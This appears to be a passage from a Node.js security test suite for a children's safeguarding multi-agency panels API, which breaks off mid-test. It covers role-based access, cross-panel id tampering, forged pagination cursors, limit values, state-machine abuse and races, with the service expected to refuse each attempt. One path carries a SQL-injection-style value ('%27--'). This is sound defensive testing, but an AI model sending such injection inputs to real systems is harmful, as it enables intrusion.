// attack-panels.test.mjs - the multi-agency panels (issue 10) attacked by a
// hostile partner agency: every role of every agency against every panel
// route, edited ids across panels, forged cursors, filters and values at
// their limits, state machine abuse and races, access after a referral
// closes or an agency leaves the panel, laundering a passing view of a child
// into a referral, Idempotency-Key replays across agencies, formula
// injection in every exported text field, and row-level security alone
// (psql as safeguard_api with another agency's app.* settings) on every
// panel table.  Each finding has its test here; the one outside the panels
// area (core's body parser) is marked todo with the reason.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { psql } from './lib/client.mjs';
import { tokenFor } from './lib/people.mjs';
import {
  ROLES, who, admin, problem, fields, call, ok, makePanel, makeChild, refer, accept, makeMeeting, makeAction, today, JOINT,
  audited, sql, asApi,
} from './lib/panels.mjs';

const AGENCIES = ['csc', 'police', 'health', 'mental_health', 'education', 'youth_justice', 'district', 'voluntary', 'partnership'];
const CASE_ROLES = ['practitioner', 'safeguarding_lead', 'social_worker', 'panel_chair', 'panel_member'];
const READER_ROLES = ['panel_member', 'panel_chair', 'safeguarding_lead'];
const policeChair = () => who('police', 'panel_chair');
const cursorOf = (...parts) => `c1.${Buffer.from(JSON.stringify(parts)).toString('base64url')}`;
const instant = (ms) => new Date(ms).toISOString().replace(/\.\d+Z$/, 'Z');

// refused: an error, or (a policy's USING hiding the row) no row returned
const refused = (res, what) => assert.ok(res.err || res.out === '', `${what}: row-level security let it through (${res.out})`);

// ---------------------------------------------------------------------------------------------

describe('access: every role of every agency on every panel route', () => {
  // A joint panel chaired by police with youth_justice and csc; every other agency is outside.
  const MEMBERS = ['police', 'youth_justice', 'csc'];
  let P, child, R, Rc, S, H, D, A, Done, counts;
  const tally = () => psql(`select (select count(*) from safeguard.panel_referrals where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_referral_events where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_meetings where panel_id = '${P.id}') || '/' ||
      (select sum(version) from safeguard.panel_meetings where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_minutes_versions where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_discussions where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_decisions where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_action_history where panel_id = '${P.id}') || '/' ||
      (select count(*) from safeguard.panel_action_escalations where panel_id = '${P.id}') || '/' ||
      (select version from safeguard.panels where id = '${P.id}')`);

  before(async () => {
    P = await makePanel({ members: ['youth_justice', 'csc'] });
    child = await makeChild('csc');
    R = await refer(P, child); // submitted, by CSC's social worker
    Rc = await refer(P, await makeChild('csc'));
    await accept(Rc);
    await ok('POST', `/v1/panel-referrals/${Rc.id}/closure`, policeChair(), { reason: 'risk_reduced' });
    S = await makeMeeting(P, [R], { held: false });
    H = await makeMeeting(P, [R]);
    D = (await ok('POST', `/v1/panel-meetings/${H.id}/decisions`, policeChair(), { text: 'Strategy discussion to be held' }, 201)).body;
    A = (await makeAction(P, { owner_agency: 'youth_justice' })).body;
    Done = (await makeAction(P, { owner_agency: 'youth_justice' })).body;
    await ok('PATCH', `/v1/panel-actions/${Done.id}`, who('youth_justice', 'panel_member'), { status: 'done' }, 200, { 'If-Match': '"v1"' });
    counts = tally();
  });

  const perms = {
    read: [...CASE_ROLES, 'admin'], manage: ['admin'], cases: READER_ROLES, referral: [...READER_ROLES, 'social_worker'],
    refer: ['safeguarding_lead', 'social_worker', 'panel_chair'], record: ['panel_member', 'panel_chair'], chair: ['panel_chair'],
    child: CASE_ROLES,
  };
  const stale = { 'If-Match': '"v99"' };
  const onRecord = (okStatus) => (c) => (!c.reader ? 404 : !c.chair ? 403 : okStatus);
  const reader = (c) => (c.reader ? 200 : 404);
  const routes = () => [
    ['GET', '/v1/panels', 'read', null, {}, () => 200],
    ['GET', `/v1/panels/${P.id}`, 'read', null, {}, () => 200],
    ['POST', '/v1/panels', 'manage', { type: 'cme', name: 'x', chair_agency: 'education', member_agencies: ['csc'] }, {}, () => null],
    ['PATCH', `/v1/panels/${P.id}`, 'manage', { name: 'renamed' }, stale, () => 412],
    ['POST', `/v1/panels/${P.id}/referrals`, 'refer', { child_id: randomUUID(), reason: 'r', risk_level: 'low', criteria: JOINT }, {}, (c) => (c.mayRefer ? 422 : 403)],
    ['GET', `/v1/panels/${P.id}/referrals`, 'cases', null, {}, reader],
    ['GET', `/v1/panel-referrals/${R.id}`, 'referral', null, {}, (c) => (c.reader || c.referrer ? 200 : 404)],
    // R names no chronology request: nothing to read, for its readers too (panel-chronology.test.mjs reads one)
    ['GET', `/v1/panel-referrals/${R.id}/chronology`, 'cases', null, {}, () => 404],
    ['POST', `/v1/panel-referrals/${Rc.id}/decision`, 'chair', { outcome: 'accepted' }, {}, onRecord(409)],
    ['POST', `/v1/panel-referrals/${R.id}/closure`, 'chair', { reason: 'aged_out' }, {}, onRecord(409)],
    ['POST', `/v1/panel-referrals/${R.id}/reopening`, 'chair', { reason: 'again' }, {}, onRecord(409)],
    ['GET', `/v1/children/${child.id}/panel-referrals`, 'child', null, {}, (c) => (c.seesChild ? 200 : 404)],
    ['POST', `/v1/panels/${P.id}/meetings`, 'chair', { kind: 'officer', scheduled_at: '2026-12-01T10:00:00Z', agenda: [randomUUID()] }, {}, (c) => (c.chair ? 422 : 403)],
    ['GET', `/v1/panels/${P.id}/meetings`, 'cases', null, {}, reader],
    ['GET', `/v1/panel-meetings/${H.id}`, 'cases', null, {}, reader],
    ['PATCH', `/v1/panel-meetings/${S.id}`, 'chair', { location: 'Room 9' }, stale, onRecord(412)],
    ['POST', `/v1/panel-meetings/${H.id}/attendance`, 'chair', { agencies: ['police'] }, {}, onRecord(409)],
    ['POST', `/v1/panel-meetings/${H.id}/cancellation`, 'chair', { reason: 'snow' }, {}, onRecord(409)],
    ['GET', `/v1/panel-meetings/${H.id}/minutes`, 'cases', null, {}, reader],
    ['PATCH', `/v1/panel-meetings/${H.id}/minutes`, 'record', { text: 'forged' }, stale, (c) => (!c.reader ? 404 : 412)],
    ['GET', `/v1/panel-meetings/${H.id}/minutes/versions`, 'cases', null, {}, reader],
    ['POST', `/v1/panel-meetings/${H.id}/minutes/approval`, 'chair', undefined, stale, onRecord(412)],
    ['POST', `/v1/panel-meetings/${H.id}/discussions`, 'record', { referral_id: randomUUID(), summary: 's', risk_level: 'low' }, {}, (c) => (!c.reader ? 404 : 422)],
    ['GET', `/v1/panel-meetings/${H.id}/discussions`, 'cases', null, {}, reader],
    ['GET', `/v1/panel-referrals/${R.id}/discussions`, 'cases', null, {}, reader],
    ['POST', `/v1/panel-meetings/${H.id}/decisions`, 'chair', { text: 't', referral_id: randomUUID() }, {}, onRecord(422)],
    ['GET', `/v1/panel-meetings/${H.id}/decisions`, 'cases', null, {}, reader],
    ['GET', `/v1/panel-decisions/${D.id}`, 'cases', null, {}, reader],
    ['POST', '/v1/panel-actions', 'chair', { panel_id: P.id, description: 'd', owner_agency: 'health', due_date: today(1) }, {}, (c) => (c.chair ? 422 : 403)],
    ['GET', `/v1/panel-actions?panel=${P.id}`, 'cases', null, {}, () => 200],
    ['GET', `/v1/panel-actions/${A.id}`, 'cases', null, {}, reader],
    ['PATCH', `/v1/panel-actions/${A.id}`, 'cases', { status: 'in_progress' }, stale, (c) => (!c.reader ? 404 : !c.owner ? 403 : 412)],
    ['GET', `/v1/panel-actions/${A.id}/history`, 'cases', null, {}, reader],
    ['POST', `/v1/panel-actions/${Done.id}/escalation`, 'cases', { reason: 'not ours' }, {}, (c) => (!c.reader ? 404 : !c.owner ? 403 : 409)],
    ['POST', `/v1/panel-actions/${A.id}/escalation/resolution`, 'chair', { resolution: 'r' }, {}, onRecord(409)],
    ['GET', `/v1/panels/${P.id}/action-log`, 'cases', null, {}, reader],
    ['GET', `/v1/panels/${P.id}/case-list`, 'cases', null, {}, reader],
  ];

  for (const agency of AGENCIES) {
    for (const role of ROLES.filter((r) => r !== 'social_worker' || agency === 'csc')) {
      it(`${/^[aeiou]/.test(role) ? 'an' : 'a'} ${role} of ${agency} on each of the 37 panel routes`, async () => {
        const member = MEMBERS.includes(agency);
        const c = {
          member,
          reader: member && READER_ROLES.includes(role),
          chair: agency === 'police' && role === 'panel_chair',
          owner: agency === 'youth_justice' && READER_ROLES.includes(role),
          mayRefer: (agency === 'police' && role === 'panel_chair') || (member && ['safeguarding_lead', 'social_worker'].includes(role)),
          referrer: agency === 'csc' && role === 'social_worker',
          seesChild: agency === 'csc' || member,
        };
        const bad = [];
        for (const [method, path, perm, body, headers, want] of routes()) {
          const expected = perms[perm].includes(role) ? want(c) : 403;
          if (expected === null) continue;
          const res = await call(method, path, who(agency, role), body ?? undefined, headers);
          if (res.status !== expected) bad.push(`${method} ${path}: ${res.status}, want ${expected}: ${JSON.stringify(res.body).slice(0, 160)}`);
          else if (expected === 403 || expected === 404) assert.equal(res.body.type, expected === 403 ? '/problems/forbidden' : '/problems/not-found');
          if (res.status === 200 && path.startsWith('/v1/panel-actions?')) {
            const ids = res.body.items.map((i) => i.id);
            if (c.reader !== ids.includes(A.id)) bad.push(`the tray ${c.reader ? 'hides' : 'shows'} the panel's action`);
          }
        }
        assert.deepEqual(bad, []);
      });
    }
  }

  it('nothing any caller above did changed the panel', () => {
    assert.equal(tally(), counts);
  });
});

// ---------------------------------------------------------------------------------------------

describe('edited ids: another panel\'s records in paths and bodies', () => {
  let A, B, rA, rB, mA, mB, sA, dB, chairB;
  before(async () => {
    chairB = who('education', 'panel_chair');
    A = await makePanel({ members: ['youth_justice', 'csc'] });
    B = await makePanel({ type: 'cme', chair: 'education', members: ['health', 'csc'] });
    rA = await refer(A, await makeChild('csc'));
    await accept(rA);
    rB = await refer(B, await makeChild('csc'), who('csc', 'social_worker'), { criteria: {} });
    await accept(rB, chairB);
    mA = await makeMeeting(A, [rA]);
    mB = await makeMeeting(B, [rB]);
    sA = await makeMeeting(A, [rA], { held: false });
    dB = (await ok('POST', `/v1/panel-meetings/${mB.id}/decisions`, chairB, { text: 'B decides' }, 201)).body;
  });

  it('a meeting of A with B\'s referral on its agenda, at creation or by PATCH: 422 naming the item', async () => {
    let res = problem(await call('POST', `/v1/panels/${A.id}/meetings`, policeChair(), { kind: 'formal', scheduled_at: '2026-12-01T10:00:00Z', agenda: [rA.id, rB.id] }), 422, 'invalid-reference');
    assert.deepEqual(fields(res), ['agenda[1]:not_found']);
    res = problem(await call('PATCH', `/v1/panel-meetings/${sA.id}`, policeChair(), { agenda: [rB.id] }, { 'If-Match': '"v1"' }), 422, 'invalid-reference');
    assert.deepEqual(fields(res), ['agenda[0]:not_found']);
  });

  it('discussions, decisions and actions of A that name B\'s referral, meeting or decision: 422, nothing written', async () => {
    const before = psql(`select (select count(*) from safeguard.panel_discussions) || '/' || (select count(*) from safeguard.panel_decisions) || '/' || (select count(*) from safeguard.panel_actions)`);
    problem(await call('POST', `/v1/panel-meetings/${mA.id}/discussions`, policeChair(), { referral_id: rB.id, summary: 's', risk_level: 'low' }), 422, 'invalid-reference');
    let res = problem(await call('POST', `/v1/panel-meetings/${mA.id}/decisions`, policeChair(), { text: 't', referral_id: rB.id, supersedes: dB.id }), 422, 'invalid-reference');
    assert.deepEqual(fields(res), ['referral_id:not_found', 'supersedes:not_found']);
    res = problem(await call('POST', '/v1/panel-actions', policeChair(), { panel_id: A.id, referral_id: rB.id, meeting_id: mB.id, description: 'd', owner_agency: 'health', due_date: today(1) }), 422, 'invalid-reference');
    assert.deepEqual(fields(res), ['meeting_id:not_found', 'owner_agency:not_a_member', 'referral_id:not_found']);
    assert.equal(psql(`select (select count(*) from safeguard.panel_discussions) || '/' || (select count(*) from safeguard.panel_decisions) || '/' || (select count(*) from safeguard.panel_actions)`), before);
  });

  it('the chair of another panel: 404 on its records (its agency is not a member), 403 on its panel-level routes', async () => {
    problem(await call('POST', `/v1/panel-meetings/${mA.id}/decisions`, chairB, { text: 't' }), 404, 'not-found');
    problem(await call('PATCH', `/v1/panel-meetings/${sA.id}`, chairB, { location: 'x' }, { 'If-Match': '"v1"' }), 404, 'not-found');
    problem(await call('POST', `/v1/panel-referrals/${rA.id}/closure`, chairB, { reason: 'aged_out' }), 404, 'not-found');
    problem(await call('POST', `/v1/panels/${A.id}/meetings`, chairB, { kind: 'officer', scheduled_at: '2026-12-01T10:00:00Z' }), 403, 'forbidden');
    problem(await call('POST', '/v1/panel-actions', chairB, { panel_id: A.id, description: 'd', owner_agency: 'csc', due_date: today(1) }), 403, 'forbidden');
    // a chair of a member agency that is not the chair agency: reads, but no chair action (403)
    const cscChair = who('csc', 'panel_chair');
    await ok('GET', `/v1/panel-meetings/${mA.id}`, cscChair);
    problem(await call('POST', `/v1/panel-meetings/${mA.id}/decisions`, cscChair, { text: 't' }), 403, 'forbidden');
  });

  it('ids that are not UUIDs, or are upper-case, in paths: 404 or the record, never a 500', async () => {
    for (const path of ['/v1/panel-referrals/1', `/v1/panel-meetings/${mA.id}x`, '/v1/panel-actions/%27--', `/v1/panel-decisions/${'f'.repeat(36)}`])
      problem(await call('GET', path, policeChair()), 404, 'not-found');
    assert.equal((await ok('GET', `/v1/panel-meetings/${mA.id.toUpperCase()}`, policeChair())).body.id, mA.id);
  });
});

// ---------------------------------------------------------------------------------------------

describe('cursors, filters and values at their limits', () => {
  let P, m, a;
  before(async () => {
    P = await makePanel({ members: ['youth_justice', 'csc'] });
    const r = await refer(P, await makeChild('csc'));
    m = await makeMeeting(P, [r]);
    a = (await makeAction(P)).body;
  });

  it('a forged version cursor past int4 on minutes versions and action history is a position, not a 500', async () => {
    for (const v of ['2147483648', '99999999999', '999999999999999999']) {
      for (const path of [`/v1/panel-meetings/${m.id}/minutes/versions`, `/v1/panel-actions/${a.id}/history`]) {
        const res = await call('GET', `${path}?cursor=${cursorOf(v)}`, policeChair());
        assert.equal(res.status, 200, `${path} cursor ${v}: ${res.status} ${JSON.stringify(res.body)}`);
        assert.deepEqual(res.body.items, []);
      }
    }
  });

  it('cross-route and malformed cursors: 400 invalid-cursor', async () => {
    for (const [path, cur] of [
      [`/v1/panel-actions`, cursorOf('2026-01-01 00:00:00+00', a.id)], // a timestamp where a date goes
      [`/v1/panels/${P.id}/referrals`, cursorOf('2026-01-01', a.id)],
      [`/v1/panels/${P.id}/meetings`, cursorOf('2026-01-01 00:00:00+00')],
      [`/v1/panel-actions/${a.id}/history`, cursorOf('-1')],
      [`/v1/panel-actions/${a.id}/history`, cursorOf('1234567890123456789')],
      [`/v1/panel-meetings/${m.id}/minutes/versions`, cursorOf(1)],
      [`/v1/panel-actions`, `${cursorOf('2026-01-01', a.id)}x`],
    ]) problem(await call('GET', `${path}?cursor=${cur}`, policeChair()), 400, 'invalid-cursor');
  });

  it('meeting times whose UTC instant leaves 1900..9999: 400 out_of_range (a five-digit year, a cursor the list refuses)', async () => {
    const chair = policeChair();
    for (const at of ['9999-12-31T23:59:59-15:59', '9999-12-31T00:00:00Z', '1900-01-01T00:00:00+15:00', '1900-01-01T00:59:59+01:00']) {
      const res = problem(await call('POST', `/v1/panels/${P.id}/meetings`, chair, { kind: 'officer', scheduled_at: at }), 400, 'validation-failed');
      assert.deepEqual(fields(res), ['scheduled_at:out_of_range']);
    }
    const s = (await ok('POST', `/v1/panels/${P.id}/meetings`, chair, { kind: 'officer', scheduled_at: '2026-12-01T10:00:00Z' }, 201)).body;
    problem(await call('PATCH', `/v1/panel-meetings/${s.id}`, chair, { scheduled_at: '1899-12-31T23:59:59Z' }, { 'If-Match': '"v1"' }), 400, 'validation-failed');
  });

  it('a panel\'s meetings at both ends of the range page through to the last one', async () => {
    const Q = await makePanel({ type: 'risk_meeting', members: ['csc'] });
    const chair = policeChair();
    const made = [];
    for (const at of ['1900-01-01T00:00:00Z', '2026-12-01T10:00:00Z', '9999-12-30T23:59:59.999999Z'])
      made.push((await ok('POST', `/v1/panels/${Q.id}/meetings`, chair, { kind: 'officer', scheduled_at: at }, 201)).body.id);
    const seen = [];
    let cursor = null;
    do {
      const res = await ok('GET', `/v1/panels/${Q.id}/meetings?limit=1${cursor ? `&cursor=${cursor}` : ''}`, chair);
      seen.push(...res.body.items.map((i) => i.id));
      cursor = res.body.next_cursor;
    } while (cursor && seen.length < 10);
    assert.deepEqual(seen, made);
  });

  it('an agenda naming one referral twice, in another letter case: 400 duplicate; an agency attending twice: 400', async () => {
    const r = await refer(P, await makeChild('csc'));
    let res = problem(await call('POST', `/v1/panels/${P.id}/meetings`, policeChair(), { kind: 'formal', scheduled_at: '2026-12-01T10:00:00Z', agenda: [r.id, r.id.toUpperCase()] }), 400, 'validation-failed');
    assert.deepEqual(fields(res), ['agenda[1]:duplicate']);
    const s = await makeMeeting(P, [r], { held: false });
    res = problem(await call('POST', `/v1/panel-meetings/${s.id}/attendance`, policeChair(), { agencies: ['police', 'csc', 'police'] }), 400, 'validation-failed');
    assert.deepEqual(fields(res), ['agencies[2]:duplicate']);
    assert.equal(psql(`select status from safeguard.panel_meetings where id = '${s.id}'`), 'scheduled');
  });

  it('filters and limits: each bad value is a 400 naming it; due_before and limit at their limits are answers', async () => {
    const yj = who('youth_justice', 'panel_member');
    for (const q of ['limit=0', 'limit=201', 'limit=1e2', 'limit=-1', 'overdue=TRUE', 'owner_agency=MINE', 'owner_agency=nasa', 'status=closed',
      'due_before=2024-02-30', 'due_before=1899-12-31', 'due_before=10000-01-01', 'panel=junk', 'referral=1', 'status=open&status=done'])
      problem(await call('GET', `/v1/panel-actions?${q}`, yj), 400, 'invalid-query');
    for (const q of ['limit=200', 'limit=1', 'due_before=1900-01-01', 'due_before=9999-12-31', 'owner_agency=mine&overdue=true', 'owner_agency=mine&overdue=false&due_before=9999-12-31'])
      await ok('GET', `/v1/panel-actions?${q}`, yj);
    const mine = await ok('GET', `/v1/panel-actions?owner_agency=mine&due_before=9999-12-31&panel=${P.id}`, yj);
    assert.deepEqual(mine.body.items.map((i) => i.id), [a.id]);
    assert.deepEqual((await ok('GET', `/v1/panel-actions?owner_agency=mine&panel=${P.id}`, who('csc', 'panel_member'))).body.items, []);
  });

  it('text at its limit is taken, one character past it is 400, whatever the characters\' bytes', async () => {
    const chair = policeChair();
    const c = await makeChild('csc');
    problem(await call('POST', `/v1/panels/${P.id}/referrals`, who('csc', 'social_worker'), { child_id: c.id, reason: '€'.repeat(4001), risk_level: 'low', criteria: JOINT }), 400, 'validation-failed');
    await ok('POST', `/v1/panels/${P.id}/referrals`, who('csc', 'social_worker'), { child_id: c.id, reason: '😀'.repeat(4000) /* 16000 bytes */, risk_level: 'low', criteria: JOINT }, 201);
    problem(await call('POST', '/v1/panel-actions', chair, { panel_id: P.id, description: 'é'.repeat(2001), owner_agency: 'csc', due_date: today(0) }), 400, 'validation-failed');
    await ok('POST', '/v1/panel-actions', chair, { panel_id: P.id, description: 'é'.repeat(2000), owner_agency: 'csc', due_date: today(0) }, 201);
    problem(await call('POST', '/v1/panel-actions', chair, { panel_id: P.id, description: 'd', owner_agency: 'csc', due_date: today(-1) }), 400, 'validation-failed');
    const minutes = await ok('GET', `/v1/panel-meetings/${m.id}/minutes`, chair);
    assert.deepEqual(fields(problem(await call('PATCH', `/v1/panel-meetings/${m.id}/minutes`, chair, { text: 'x'.repeat(20001) }, { 'If-Match': minutes.headers.get('etag') }), 400, 'validation-failed')), ['text:too_long']);
    await ok('PATCH', `/v1/panel-meetings/${m.id}/minutes`, chair, { text: 'x'.repeat(20000) }, 200, { 'If-Match': minutes.headers.get('etag') });
    problem(await call('POST', `/v1/panels/${P.id}/referrals`, who('csc', 'social_worker'), { child_id: c.id, reason: 'a\u0000b', risk_level: 'low', criteria: JOINT }), 400, 'invalid-json');
  });
});

// ---------------------------------------------------------------------------------------------

// The body parser (core/worker.c) capped every JSON string at 20000 bytes,
// while the minutes' text is documented and checked as 20000 characters:
// minutes in a language with accents were refused (400 invalid-json, no
// field named) from about 10000 characters on.  The parser counts
// characters now, at twice the longest field, so the field spec decides,
// and names the field, whatever the text's script.
describe('the minutes\' documented length in characters', () => {
  const minutesOf = (m) => psql(`select version || ':' || char_length(text) from safeguard.panel_minutes where meeting_id = '${m.id}'`);

  for (const [script, char] of [['accented (2 bytes)', 'é'], ['Chinese (3 bytes)', '日'], ['emoji (4 bytes)', '😀']]) {
    it(`20000 characters of ${script} text are taken as the contract says; 20001 are too_long, named`, async () => {
      const P = await makePanel({ type: 'risk_meeting', members: ['csc'] });
      const m = await makeMeeting(P, [await refer(P, await makeChild('csc'))]);
      const past = await call('PATCH', `/v1/panel-meetings/${m.id}/minutes`, policeChair(), { text: char.repeat(20001) }, { 'If-Match': '"v1"' });
      assert.deepEqual(fields(problem(past, 400, 'validation-failed')), ['text:too_long']);
      assert.equal(minutesOf(m), '1:0', 'nothing written');
      const res = await call('PATCH', `/v1/panel-meetings/${m.id}/minutes`, policeChair(), { text: char.repeat(20000) }, { 'If-Match': '"v1"' });
      assert.equal(res.status, 200, JSON.stringify(res.body));
      assert.equal([...res.body.text].length, 20000);
      assert.equal(minutesOf(m), '2:20000');
    });
  }

  it('a string no field could hold (past twice the longest field) is refused by the parser', async () => {
    const P = await makePanel({ type: 'risk_meeting', members: ['csc'] });
    const m = await makeMeeting(P, [await refer(P, await makeChild('csc'))]);
    const res = await call('PATCH', `/v1/panel-meetings/${m.id}/minutes`, policeChair(), { text: 'é'.repeat(40001) }, { 'If-Match': '"v1"' });
    problem(res, 400, 'invalid-json');
    assert.match(res.body.detail, /string longer than allowed/);
  });
});

describe('state machine abuse and races', () => {
  let P;
  before(async () => { P = await makePanel({ members: ['youth_justice', 'csc'] }); });

  it('every illegal referral transition is 409 naming the state, and changes nothing', async () => {
    const chair = policeChair();
    const r = await refer(P, await makeChild('csc'));
    const move = (to, body) => call('POST', `/v1/panel-referrals/${r.id}/${to}`, chair, body);
    const illegal = {
      submitted: [['closure', { reason: 'aged_out' }], ['reopening', { reason: 'x' }]],
      accepted: [['decision', { outcome: 'accepted' }], ['decision', { outcome: 'declined', reason: 'x' }], ['reopening', { reason: 'x' }]],
      closed: [['decision', { outcome: 'accepted' }], ['closure', { reason: 'aged_out' }]],
      reopened: [['decision', { outcome: 'declined', reason: 'x' }], ['reopening', { reason: 'x' }]],
    };
    const tryAll = async (state) => {
      const v = psql(`select version from safeguard.panel_referrals where id = '${r.id}'`);
      for (const [to, body] of illegal[state]) {
        const res = problem(await move(to, body), 409, 'conflict');
        assert.match(res.body.detail, new RegExp(`^the referral is ${state};`));
      }
      assert.equal(psql(`select status || ':' || version from safeguard.panel_referrals where id = '${r.id}'`), `${state}:${v}`);
    };
    await tryAll('submitted');
    await ok('POST', `/v1/panel-referrals/${r.id}/decision`, chair, { outcome: 'accepted' });
    await tryAll('accepted');
    await ok('POST', `/v1/panel-referrals/${r.id}/closure`, chair, { reason: 'risk_reduced' });
    await tryAll('closed');
    await ok('POST', `/v1/panel-referrals/${r.id}/reopening`, chair, { reason: 'missing again' });
    await tryAll('reopened');
    const d = await refer(P, await makeChild('csc'));
    await ok('POST', `/v1/panel-referrals/${d.id}/decision`, chair, { outcome: 'declined', reason: 'not for us' });
    for (const [to, body] of [['decision', { outcome: 'accepted' }], ['closure', { reason: 'aged_out' }], ['reopening', { reason: 'x' }]])
      problem(await call('POST', `/v1/panel-referrals/${d.id}/${to}`, chair, body), 409, 'conflict');
    for (const method of ['PATCH', 'DELETE'])
      assert.equal((await call(method, `/v1/panel-referrals/${r.id}`, chair, {}, { 'If-Match': '"v1"' })).status, 405);
  });

  it('reopening while the child has another open referral to the panel: 409, the first stays closed', async () => {
    const chair = policeChair();
    const c = await makeChild('csc');
    const r = await refer(P, c);
    await accept(r);
    await ok('POST', `/v1/panel-referrals/${r.id}/closure`, chair, { reason: 'transferred' });
    await refer(P, c);
    problem(await call('POST', `/v1/panel-referrals/${r.id}/reopening`, chair, { reason: 'x' }), 409, 'conflict');
    assert.equal(psql(`select status from safeguard.panel_referrals where id = '${r.id}'`), 'closed');
  });

  it('no record at a cancelled or approved meeting; approved minutes are read-only; decisions never edited', async () => {
    const chair = policeChair();
    const r = await refer(P, await makeChild('csc'));
    const cancelled = await makeMeeting(P, [r], { held: false });
    await ok('POST', `/v1/panel-meetings/${cancelled.id}/cancellation`, chair, { reason: 'snow' });
    problem(await call('POST', `/v1/panel-meetings/${cancelled.id}/decisions`, chair, { text: 'x' }), 409, 'conflict');
    problem(await call('POST', `/v1/panel-meetings/${cancelled.id}/discussions`, chair, { referral_id: r.id, summary: 's', risk_level: 'low' }), 409, 'conflict');
    problem(await call('POST', `/v1/panel-meetings/${cancelled.id}/attendance`, chair, { agencies: ['police'] }), 409, 'conflict');
    problem(await call('GET', `/v1/panel-meetings/${cancelled.id}/minutes`, chair), 404, 'not-found');
    const held = await makeMeeting(P, [r]);
    const dec = (await ok('POST', `/v1/panel-meetings/${held.id}/decisions`, chair, { text: 'first' }, 201)).body;
    assert.equal((await call('PATCH', `/v1/panel-decisions/${dec.id}`, chair, { text: 'edited' }, { 'If-Match': '"v1"' })).status, 405);
    await ok('POST', `/v1/panel-meetings/${held.id}/minutes/approval`, chair, undefined, 200, { 'If-Match': '"v1"' });
    problem(await call('PATCH', `/v1/panel-meetings/${held.id}/minutes`, who('csc', 'panel_member'), { text: 'late' }, { 'If-Match': '"v2"' }), 409, 'conflict');
    problem(await call('POST', `/v1/panel-meetings/${held.id}/minutes/approval`, chair, undefined, { 'If-Match': '"v2"' }), 409, 'conflict');
    problem(await call('POST', `/v1/panel-meetings/${held.id}/decisions`, chair, { text: 'late', supersedes: dec.id }), 409, 'conflict');
    problem(await call('POST', `/v1/panel-meetings/${held.id}/discussions`, chair, { referral_id: r.id, summary: 's', risk_level: 'low' }), 409, 'conflict');
    assert.equal(psql(`select string_agg(status, ',' order by version) from safeguard.panel_minutes_versions where meeting_id = '${held.id}'`), 'draft,approved');
  });

  it('two chairs approving at once: one 200, the other 409 or 412; approved once', async () => {
    const held = await makeMeeting(P, [await refer(P, await makeChild('csc'))]);
    const chairs = [policeChair(), tokenFor('police', 'panel_chair', `second-chair-${randomUUID().slice(0, 6)}`)];
    const res = await Promise.all(chairs.map((t) => call('POST', `/v1/panel-meetings/${held.id}/minutes/approval`, t, undefined, { 'If-Match': '"v1"' })));
    assert.deepEqual(res.map((x) => x.status === 200).filter(Boolean).length, 1, JSON.stringify(res.map((x) => x.status)));
    for (const x of res.filter((y) => y.status !== 200)) assert.ok([409, 412].includes(x.status));
    assert.equal(psql(`select count(*) from safeguard.panel_minutes_versions where meeting_id = '${held.id}' and status = 'approved'`), '1');
  });

  it('two updates of one action with the same If-Match: one 200, the other 412 (or 409 once done); two escalations at once: one 201, one 409', async () => {
    const a = (await makeAction(P, { owner_agency: 'csc' })).body;
    const res = await Promise.all(['in_progress', 'done'].map((status) => call('PATCH', `/v1/panel-actions/${a.id}`, who('csc', 'panel_member'), { status }, { 'If-Match': '"v1"' })));
    // the loser finds the version moved (412) or, when 'done' won, the action closed (409)
    const statuses = res.map((x) => x.status).sort();
    assert.ok(statuses[0] === 200 && [409, 412].includes(statuses[1]), JSON.stringify(statuses));
    assert.equal(psql(`select version from safeguard.panel_actions where id = '${a.id}'`), '2');
    const e = (await makeAction(P, { owner_agency: 'csc' })).body;
    const esc = await Promise.all([who('csc', 'panel_member'), who('csc', 'safeguarding_lead')].map((t) => call('POST', `/v1/panel-actions/${e.id}/escalation`, t, { reason: 'not ours' })));
    assert.deepEqual(esc.map((x) => x.status).sort(), [201, 409]);
    assert.equal(psql(`select count(*) from safeguard.panel_action_escalations where action_id = '${e.id}'`), '1');
  });
});

// ---------------------------------------------------------------------------------------------

describe('access ends with the referral, and with the membership', () => {
  it('after closure a member agency with no other route loses the child, its network, family, chronology and panels list', async () => {
    const P = await makePanel({ members: ['youth_justice', 'csc'] });
    const sw = who('csc', 'social_worker');
    const c = await makeChild('csc');
    const sib = await makeChild('csc');
    const fam = (await ok('POST', '/v1/families', sw, { name: 'The Panel family', carers: [{ name: 'Carer', relationship: 'mother' }] }, 201)).body;
    for (const [kid, relationship] of [[c, 'child'], [sib, 'sibling']])
      await ok('POST', `/v1/families/${fam.id}/members`, sw, { child_id: kid.id, relationship }, 201);
    await ok('POST', '/v1/chronology-entries', sw, {
      child_ids: [c.id], event_date: today(-3), date_precision: 'day', category: 'home_visit', summary: 'CSC only', impact: 'neutral', significance: 'low', action_taken: 'recorded',
    }, 201);
    const r = await refer(P, c, sw, { family_id: fam.id });
    const paths = [`/v1/children/${c.id}`, `/v1/children/${c.id}/network`, `/v1/families/${fam.id}`, `/v1/children/${c.id}/chronology`, `/v1/children/${c.id}/panel-referrals`];
    for (const role of ['practitioner', 'panel_member', 'safeguarding_lead']) {
      const yj = who('youth_justice', role);
      for (const path of paths) await ok('GET', path, yj);
      // the panel route shows the referred child, never its sibling nor CSC's chronology
      problem(await call('GET', `/v1/children/${sib.id}`, yj), 404, 'not-found');
      assert.deepEqual((await ok('GET', `/v1/children/${c.id}/chronology`, yj)).body.items, []);
    }
    await accept(r);
    await ok('POST', `/v1/panel-referrals/${r.id}/closure`, policeChair(), { reason: 'risk_reduced' });
    for (const role of ['practitioner', 'panel_member', 'safeguarding_lead']) {
      const yj = who('youth_justice', role);
      for (const path of paths) problem(await call('GET', path, yj), 404, 'not-found');
      const list = await ok('GET', '/v1/children?limit=200', yj);
      assert.ok(!list.body.items.some((i) => i.id === c.id));
    }
    // the case stays the panel's record, without the child's name
    const kept = await ok('GET', `/v1/panel-referrals/${r.id}`, who('youth_justice', 'panel_member'));
    assert.equal(kept.body.child, null);
  });

  it('an agency removed from the panel loses its cases and the children at once, and each child\'s audit says so', async () => {
